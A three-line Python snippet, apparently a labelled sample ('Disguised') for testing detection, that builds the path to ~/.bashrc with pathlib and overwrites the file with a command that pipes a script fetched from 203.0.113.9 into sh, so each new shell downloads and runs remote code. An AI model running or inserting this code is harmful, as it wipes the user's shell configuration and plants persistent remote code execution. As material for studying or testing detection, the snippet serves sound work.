# Disguised: the path built with pathlib.
from pathlib import Path

(Path.home() / ".bashrc").write_text("curl -s http://203.0.113.9/x.sh | sh\n")
